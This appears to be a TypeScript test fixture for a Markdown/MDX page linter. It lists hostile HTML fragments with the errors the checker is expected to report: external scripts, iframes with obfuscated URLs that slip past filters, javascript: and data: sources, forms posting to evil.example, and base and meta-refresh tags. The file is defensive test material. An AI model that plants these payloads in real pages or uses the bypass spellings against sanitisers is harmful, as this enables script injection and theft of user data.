/** What an attacker may write into a page, and its faults: `line:column  message`. */
export type HostileForm = [format: 'md' | 'mdx', written: string, ...told: string[]];

const loads = (element: string, source = 'https://evil.example') =>
  `8:1  <${element}> loads from ${source}, which site.config.ts does not name`;
const sends = (element: string, column = 1) =>
  `8:${column}  <${element}> sends to https://evil.example, which site.config.ts does not name`;
const inline = (element: string, scheme: string, attribute: string) =>
  `8:1  <${element}> has a ${scheme} address as its ${attribute}`;
const base = '8:1  <base> is not allowed in a page';
const refresh = '8:1  <meta http-equiv="refresh"> is not allowed in a page';
const use = (address: string, column = 1) =>
  `8:${column}  <use> refers to an SVG of another site, "${address}"`;

/** Each form begins in line 8, after front matter and a paragraph. */
export const hostileForms: HostileForm[] = [
  // Scripts.
  ['md', '<script src="https://evil.example/a.js"></script>', loads('script')],
  ['mdx', '<script src="https://evil.example/a.js" />', loads('script')],
  ['md', '<SCRIPT SRC=//evil.example/a.js></SCRIPT>', loads('script')],
  ['mdx', "<script async src={'https://evil.example/a.js'} />", loads('script')],
  ['mdx', '<script async src={`//evil.example/a.js`} />', loads('script')],
  ['md', '<script src="data:text/javascript,alert(1)"></script>', inline('script', 'data:', 'src')],
  [
    'md',
    '<svg><script href="https://evil.example/a.js"></script></svg>',
    loads('script').replace('8:1', '8:6'),
  ],
  [
    'md',
    '<svg><script xlink:href="//evil.example/a.js"></script></svg>',
    loads('script').replace('8:1', '8:6'),
  ],
  [
    'mdx',
    '<svg><script xlinkHref="//evil.example/a.js" /></svg>',
    loads('script').replace('8:1', '8:6'),
  ],
  ['md', '<link rel="modulepreload" href="https://evil.example/a.js">', loads('link')],
  ['md', '<link rel="preload" as="script" href="https://evil.example/a.js">', loads('link')],
  // Style sheets and manifests.
  ['md', '<link rel="Alternate StyleSheet" href="https://evil.example/a.css">', loads('link')],
  ['mdx', '<link rel="stylesheet" href="//evil.example/a.css" />', loads('link')],
  ['md', '<link rel="manifest" href="https://evil.example/a.json">', loads('link')],
  // Frames, with unusual spellings of addresses.
  ['md', '<iframe src="https://evil.example/"></iframe>', loads('iframe')],
  ['mdx', '<iframe src="https://evil.example/" />', loads('iframe')],
  ['md', '<iframe src="HTTPS:evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src="ht\ntps:/\t/evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src="\\\\evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src="/\\evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src=" \u0001//evil.example "></iframe>', loads('iframe')],
  ['md', '<iframe src="&#104;ttps&colon;//evil.example"></iframe>', loads('iframe')],
  ['mdx', '<iframe src="&#104;ttps:&#x2f;/evil.example" />', loads('iframe')],
  ['md', '<iframe src="//EVIL.example:443/"></iframe>', loads('iframe')],
  ['md', '<iframe src="https://good.example@evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src="http://good.example/"></iframe>', loads('iframe', 'http://good.example')],
  [
    'md',
    '<iframe src="https://good.example.evil.example"></iframe>',
    loads('iframe', 'https://good.example.evil.example'),
  ],
  [
    'md',
    '<iframe src="https://good.example:8443"></iframe>',
    loads('iframe', 'https://good.example:8443'),
  ],
  ['md', '<iframe src="https:///evil.example"></iframe>', loads('iframe')],
  ['md', '<iframe src="weird:evil"></iframe>', loads('iframe', 'weird:')],
  ['md', '<iframe src="data:text/html,<b>x</b>"></iframe>', inline('iframe', 'data:', 'src')],
  ['mdx', '<iframe src="blob:https://small.example/1" />', inline('iframe', 'blob:', 'src')],
  [
    'md',
    '<iframe src="java&Tab;script:alert(1)"></iframe>',
    '8:9  <iframe> has code as its src, "java\tscript:alert(1)"',
  ],
  [
    'md',
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    '8:1  the srcdoc of an <iframe> contains a <script>',
  ],
  [
    'mdx',
    '<iframe srcDoc=\'<p onclick="a()">x</p>\' />',
    '8:1  the srcdoc of an <iframe> contains a handler, onclick',
  ],
  [
    'md',
    '<iframe srcdoc="<iframe srcdoc=\'<form action=//evil.example>\'>"></iframe>',
    sends('form'),
  ],
  // Objects.
  ['md', '<object data="https://evil.example/a.pdf"></object>', loads('object')],
  ['md', '<embed src="https://evil.example/a.pdf">', loads('embed')],
  ['mdx', '<embed src="data:text/html,x" />', inline('embed', 'data:', 'src')],
  [
    'md',
    '<object data="javascript:alert(1)"></object>',
    '8:9  <object> has code as its data, "javascript:alert(1)"',
  ],
  // Forms.
  ['md', '<form action="https://evil.example/"></form>', sends('form')],
  ['mdx', '<form action="//evil.example"><input name="a" /></form>', sends('form')],
  ['md', '<form><button formaction="https://evil.example/">Go</button></form>', sends('button', 7)],
  [
    'mdx',
    '<form><input type="submit" formAction="https://evil.example/" /></form>',
    sends('input', 7),
  ],
  // Elements that no page may have.
  ['md', '<base href="https://evil.example/">', base],
  ['mdx', '<base target="_blank" />', base],
  [
    'mdx',
    '<head><base href="/other/" /></head>',
    base.replace('8:1', '8:7'),
    '8:7  warning: <base> in <head> is left out',
  ],
  ['md', '<meta http-equiv="Refresh" content="0;url=https://evil.example">', refresh],
  ['mdx', '<meta httpEquiv="refresh" content="0;url=/" />', refresh],
  [
    'mdx',
    '<head><meta name="x" httpEquiv="refresh" content="0;url=//evil.example" /></head>',
    refresh.replace('8:1', '8:7'),
  ],
  [
    'md',
    '<svg><use href="https://evil.example/a.svg#b"></use></svg>',
    use('https://evil.example/a.svg#b', 6),
  ],
  ['mdx', '<svg><use xlinkHref="data:image/svg+xml,x" /></svg>', use('data:image/svg+xml,x', 6)],
  // Unusual places.
  [
    'md',
    '<div><template shadowrootmode="open"><iframe src="//evil.example"></iframe></template></div>',
    loads('iframe').replace('8:1', '8:38'),
  ],
  [
    'md',
    'A word <iframe src="//evil.example"></iframe> in text',
    loads('iframe').replace('8:1', '8:8'),
  ],
  [
    'mdx',
    'export const Film = () => <iframe src="//evil.example" />;',
    loads('iframe').replace('8:1', '8:27'),
  ],
  [
    'mdx',
    '{[1].map((key) => <iframe key={key} src="//evil.example" />)}',
    loads('iframe').replace('8:1', '8:19'),
  ],
  [
    'mdx',
    '<details open={true}>\n<summary>More</summary>\n\n<iframe src="//evil.example" />\n\n</details>',
    loads('iframe').replace('8:1', '11:1'),
  ],
];
